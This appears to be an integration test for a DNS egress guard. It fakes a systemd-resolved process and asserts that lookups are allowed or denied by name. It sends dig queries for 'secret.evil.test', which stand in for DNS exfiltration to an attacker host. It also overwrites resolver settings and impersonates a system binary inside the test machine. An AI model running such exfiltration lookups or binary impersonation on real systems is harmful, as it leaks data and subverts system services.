/** A machine whose lookups go through systemd-resolved. */

import assert from "node:assert/strict";
import { readLog } from "../support/run.ts";
import { logOf, machineSuite } from "../support/machine_suite.ts";

const test = machineSuite();
const PROGRAM = "/usr/lib/systemd/systemd-resolved";
const SCRIPT = new URL("../support/fake_resolved.py", import.meta.url).pathname;

test("lookups of the machine's resolver are judged by name, whoever they are for", async (s) => {
  const root = (await s.machine.sh(
    `sed -n 's/^[^ ]* [^ ]* [^ ]* \\/ \\([^ ]*\\) .* - cgroup2 .*/\\1/p' /proc/self/mountinfo`,
  )).stdout.trim();
  const group = `${root}/system.slice/systemd-resolved.service`;
  const resolver = s.machine.spawn([
    "bash",
    "-c",
    `set -e
     mkdir -p ${group} /run/systemd/resolve; echo $$ > ${group}/cgroup.procs
     cp "$(readlink -f /usr/bin/python3)" ${PROGRAM}
     cp /etc/resolv.conf /run/systemd/resolve/resolv.conf
     echo 'nameserver 127.0.0.53' > /etc/resolv.conf
     PYTHONHOME=/usr exec ${PROGRAM} ${SCRIPT} 198.51.100.53`,
  ]);
  const said = resolver.stdout.getReader();
  const errors = new Response(resolver.stderr).text();
  assert.equal(new TextDecoder().decode((await said.read()).value), "ready\n", "no resolver");
  await s.guard("site.test exe=/usr/bin/curl\n");
  const get = await s.machine.run("curl", "-sS", "-m", "5", "https://site.test/");
  assert.equal(get.stdout, "GET / 0\n", get.stderr);
  await s.begin();
  const dig = ["dig", "+time=1", "+tries=1", "+short"];
  // By way of the stub, by way of a process that has the stub's ear, and past the stub.
  await s.machine.run(...dig, "@127.0.0.53", "secret.evil.test");
  await s.machine.run(...dig, "@198.51.100.53", "secret.evil.test");
  await s.machine.run(...dig, "@198.51.100.53", "site.test");
  assert.deepEqual((await s.received()).filter((r) => r.kind === "dns"), []);
  assert.equal((await s.machine.egress("stop")).code, 0);
  resolver.kill("SIGKILL");
  await Promise.all([resolver.status, said.cancel(), errors]);
  const log = await readLog(logOf(s));
  const upstream = log.find((e) => e.type === "dns" && e.exe === PROGRAM && e.policy === "allow");
  assert.equal(upstream?.rule, "site.test exe=/usr/bin/curl");
});
